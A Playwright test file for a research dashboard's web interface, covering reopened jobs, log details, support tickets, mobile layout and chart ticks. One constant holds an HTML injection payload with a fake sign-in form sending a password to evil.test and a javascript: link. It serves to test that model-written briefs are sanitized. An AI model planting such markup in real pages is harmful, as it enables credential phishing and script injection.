"""The small things a first visit trips on: a reopened job keeps its question, timeline and
result; a log row opens its request and response; a ticket shows its id and the list of mine;
the Logs table keeps its status column on a 390 px phone; chart ticks are round numbers."""

from __future__ import annotations

import itertools
import math
import re

import psycopg
import pytest
from playwright.sync_api import expect

from tests.web.conftest import log_in, new_page, shot, unique_email

pytestmark = pytest.mark.timeout(300)
QUESTION = "How do checkpointed graphs resume after a crash?"


@pytest.fixture
def finished_job(dashboard):
    """A verified user with one finished lite job run through the API."""
    email = unique_email("details")
    http = dashboard.create_verified_user(email)
    job = http.post("/api/playground/research", json={"question": QUESTION, "mode": "lite"})
    assert job.status_code == 200 and job.json()["status"] == "succeeded", job.text
    http.close()
    return email, job.json()


HOSTILE_BRIEF = ('Checkpoints resume runs.\n\n<img src="data:," alt="tracker"><form action="https://evil.test">'
                 '<input name="password"><button>Sign in again</button></form><iframe src="about:blank"></iframe>'
                 '<a href="javascript:alert(1)">click</a>\n\nThe **bold** stays.')


def test_a_reopened_job_shows_its_question_events_and_result(page, dashboard, finished_job, console):
    email, job = finished_job
    log_in(page, email)
    page.goto(f"/playground?job={job['id']}")
    expect(page.get_by_label("Question")).to_have_value(QUESTION)
    expect(page.locator(".job-question")).to_contain_text(QUESTION)
    timeline = page.locator("ol.timeline")
    expect(timeline.get_by_text("A worker started the job")).to_be_visible()
    expect(page.get_by_text("This job's events are no longer kept")).to_have_count(0)
    expect(page.locator("article.brief")).to_contain_text("crash")
    expect(page.get_by_role("button", name="Cancel")).to_have_count(0)
    shot(page, "playground-reopened")
    assert console.errors == []

    # A model-written brief (sources can steer it) renders only Markdown's own elements.
    with psycopg.connect(dashboard.database_url, autocommit=True) as conn:
        conn.execute("UPDATE research_jobs SET result = jsonb_set(result, '{brief}', to_jsonb(%s::text)) "
                     "WHERE id = %s", (HOSTILE_BRIEF, job["id"]))
    page.reload()
    brief = page.locator("article.brief")
    expect(brief).to_contain_text("Checkpoints resume runs")
    expect(brief.locator("strong")).to_have_text("bold")
    for tag in ("img", "form", "input", "button", "iframe", "a[href^='javascript']"):
        expect(brief.locator(tag)).to_have_count(0)
    assert console.errors == []


def test_a_log_row_opens_its_request_and_response(page, finished_job, console):
    email, job = finished_job
    log_in(page, email)
    page.goto("/logs")
    page.get_by_role("button", name="Details").first.click()
    detail = page.locator(".log-detail")
    expect(detail.get_by_role("heading", name="Request")).to_be_visible()
    expect(detail.locator("pre.code").first).to_contain_text(f'"question": "{QUESTION}"')
    expect(detail.locator("pre.code").nth(1)).to_contain_text(f'"id": "{job["id"]}"')
    expect(detail.get_by_role("button", name="Copy").first).to_be_visible()
    shot(page, "logs-detail")
    assert console.errors == []


def test_the_logs_status_column_fits_a_390px_phone(browser, dashboard, finished_job, console):
    email, _ = finished_job
    page = new_page(browser, dashboard, console, width=390)
    try:
        log_in(page, email)
        page.goto("/logs")
        status = page.get_by_role("cell", name="succeeded").first
        expect(status).to_be_visible()
        box = status.bounding_box()
        assert box and box["x"] + box["width"] <= 390, box
        shot(page, "logs-390")
    finally:
        page.context.close()


def test_a_ticket_shows_its_id_and_my_tickets_lists_it(page, dashboard, console):
    email = unique_email("ticket")
    dashboard.create_verified_user(email).close()
    log_in(page, email)
    page.goto("/support")
    expect(page.get_by_text("No tickets yet")).to_be_visible()
    page.get_by_label("Subject").fill("Where is my invoice?")
    page.get_by_label("How can we help?").fill("I need a PDF.")
    page.get_by_role("button", name="Send ticket").click()
    ticket_id = page.get_by_test_id("ticket-id")
    expect(ticket_id).to_have_text(re.compile(r"^[0-9a-f-]{36}$"))
    mine = page.get_by_role("region", name="My tickets")
    expect(mine.get_by_role("cell", name="Where is my invoice?")).to_be_visible()
    expect(mine.get_by_text(ticket_id.inner_text()[:8])).to_be_visible()
    assert console.errors == []


def test_usage_chart_ticks_are_round_numbers(page, dashboard):
    """45 credits used: quarter ticks would read 13/25/38; round ones read 0/10/20/30/40/50."""
    email = unique_email("ticks")
    http = dashboard.create_verified_user(email)
    for _ in range(3):
        assert (
            http.post("/api/playground/research", json={"question": QUESTION, "mode": "lite"}).status_code
            == 200
        )
    http.close()
    log_in(page, email)
    page.goto("/")
    ticks = page.locator("svg .chart-tick-y")
    expect(ticks.first).to_be_visible()
    values = [float(t.replace(",", "")) for t in ticks.all_text_contents()]
    steps = {round(b - a, 9) for a, b in itertools.pairwise(values)}
    assert values[0] == 0 and len(steps) == 1, values
    (step,) = steps
    mantissa = step / 10 ** math.floor(math.log10(step))
    assert round(mantissa, 6) in (1, 2, 5), values
